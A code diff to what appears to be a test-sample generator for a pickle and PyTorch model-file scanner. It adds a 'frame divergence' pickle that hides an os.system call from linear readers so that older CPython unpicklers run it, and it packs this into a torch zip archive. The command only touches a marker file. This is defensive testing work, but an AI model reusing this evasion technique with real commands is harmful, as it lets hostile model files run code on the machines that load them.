@@ -124,6 +124,40 @@ def os_system_pickle(marker: Path) -> bytes:
     return PROTO2 + call("os", "system", uni(touch_cmd(marker))) + STOP
 
 
+def frame_divergence_pickle(hidden: bytes) -> bytes:
+    """fickling's frame-boundary divergence (test_bypasses.py, python/cpython#154848).
+
+    A FRAME claims 2 bytes: the BINBYTES opcode and the first byte of its 4-byte size. A linear
+    reader (pickletools, pickle.loads on bytes) takes the size as ``s0 + 256`` and swallows
+    *hidden* as data. CPython's C unpickler before 3.13.15, reading a file object (torch.load
+    reads data.pkl from an io.BytesIO), drops the rest of the frame when the size read does not
+    fit in it and reads the size from the bytes after the frame: ``01 00 00 00`` = 1, one byte of
+    data, then *hidden* runs as opcodes. CPython >= 3.13.15 and pickle._Unpickler refuse it.
+    *hidden* must leave one value on the stack.
+    """
+    block_len = max(261, len(hidden) + 1)
+    s0 = block_len - 254  # linear size s0 + 256 covers the 2 padding bytes and the block
+    assert 0 <= s0 <= 255, "hidden payload too long for a one-byte size"
+    return (
+        b"\x80\x05"
+        + b"N"
+        + b"V" + b"a" * (8192 * 16 - 17) + b"\n"  # push the frame past a peek()ing reader's buffer
+        + POP
+        + MARK
+        + b"\x95" + struct.pack("<Q", 2)  # FRAME of 2 bytes ...
+        + b"B" + bytes([s0, 1, 0, 0])  # ... BINBYTES whose size field straddles the frame end
+        + b"\x00\x00"
+        + (hidden + MARK).ljust(block_len, b"N")
+        + b"1"  # POP_MARK
+        + STOP
+    )  # fmt: skip
+
+
+def unicode_line(s: str) -> bytes:
+    """UNICODE (protocol 0): raw-unicode-escape text up to a newline."""
+    return b"V" + s.encode("raw-unicode-escape") + b"\n"
+
+
 # --------------------------------------------------------------------------------------------
 # Zip assembly
 # --------------------------------------------------------------------------------------------
@@ -321,7 +355,11 @@ def _malicious_pickles() -> dict[str, tuple[str, Builder]]:
     def proto0_text(_p: Path, m: Path) -> bytes:
         return b"cos\nsystem\n(S'" + touch_cmd(m).encode() + b"'\ntR."
 
+    def frame_divergence(_p: Path, m: Path) -> bytes:
+        return frame_divergence_pickle(glob("os", "system") + unicode_line(touch_cmd(m)) + TUPLE1 + REDUCE)
+
     return {
+        "frame_divergence": ("frame-violation", frame_divergence),
         "os_system_reduce": ("os.system", lambda _p, m: os_system_pickle(m)),
         "posix_system": ("posix.system", lambda _p, m: PROTO2 + call("posix", "system", uni(touch_cmd(m))) + STOP),
         "builtins_eval": ("builtins.eval", lambda _p, m: PROTO2 + call("builtins", "eval", uni(py_touch(m))) + STOP),
@@ -400,6 +438,12 @@ def _malicious_archives() -> dict[str, tuple[str, Builder]]:
         members[0].local_sizes = (7, 7)
         return build_zip(members)
 
+    def zip_frame_divergence(_p: Path, m: Path) -> bytes:
+        hidden = glob("os", "system") + unicode_line(touch_cmd(m)) + TUPLE1 + REDUCE
+        members = torch_members(_small_state())
+        members[0] = ZipEntry(members[0].name, frame_divergence_pickle(hidden))
+        return build_zip(members)
+
     def zip_hidden_pickle(_p: Path, m: Path) -> bytes:
         return build_zip([*torch_members(_small_state()), ZipEntry("archive/extra/notes", os_system_pickle(m))])
 
@@ -423,6 +467,7 @@ def _malicious_archives() -> dict[str, tuple[str, Builder]]:
         "zip_deflated": ("compressed-member", zip_deflated),
         "zip_lying_sizes": ("size-mismatch", zip_lying_sizes),
         "zip_hidden_pickle": ("hidden-pickle", zip_hidden_pickle),
+        "zip_frame_divergence": ("frame-violation", zip_frame_divergence),
         "legacy_later_pickle": ("legacy pickle #5 (storage keys)", legacy_later_pickle),
     }
 
@@ -633,10 +678,6 @@ def build_benign(directory: Path) -> list[Sample]:
     for name, factory in benign_objects().items():
         torch.save(factory(), d / f"{name}.pt")
         add(name, d / f"{name}.pt")
-    torch.save(benign_objects()["training_ckpt"](), d / "protocol4.pt", pickle_protocol=4)
-    # torch's weights_only unpickler does not implement protocol 4 opcodes (FRAME,
-    # SHORT_BINUNICODE, ...): it refuses the file although nothing in it is unsafe.
-    add("protocol4", d / "protocol4.pt", torch_loads_weights_only=False)
     torch.save(benign_objects()["params_views_tied"](), d / "legacy.pt", _use_new_zipfile_serialization=False)
     add("legacy_format", d / "legacy.pt")
     torch.save(benign_objects()["module_state_dict"](), d / "weights.bin")
@@ -694,6 +735,10 @@ def build_not_weights_only(directory: Path) -> list[Sample]:
             "argparse_namespace", d / "timm_with_args.pth.tar", "not-weights-only", "argparse.Namespace", None, "unsafe"
         )
     )
+    torch.save(benign_objects()["training_ckpt"](), d / "protocol4.pt", pickle_protocol=4)
+    # torch's weights_only unpickler does not implement protocol 4 opcodes (FRAME,
+    # SHORT_BINUNICODE, ...): it refuses the file although nothing in it is hostile.
+    out.append(Sample("protocol4", d / "protocol4.pt", "not-weights-only", "weights-only-refused", None, "unsafe"))
     scripted = torch.jit.script(nn.Linear(2, 2))
     torch.jit.save(scripted, str(d / "scripted.pt"))
     out.append(Sample("torchscript", d / "scripted.pt", "not-weights-only", "torchscript", None, "unsafe"))
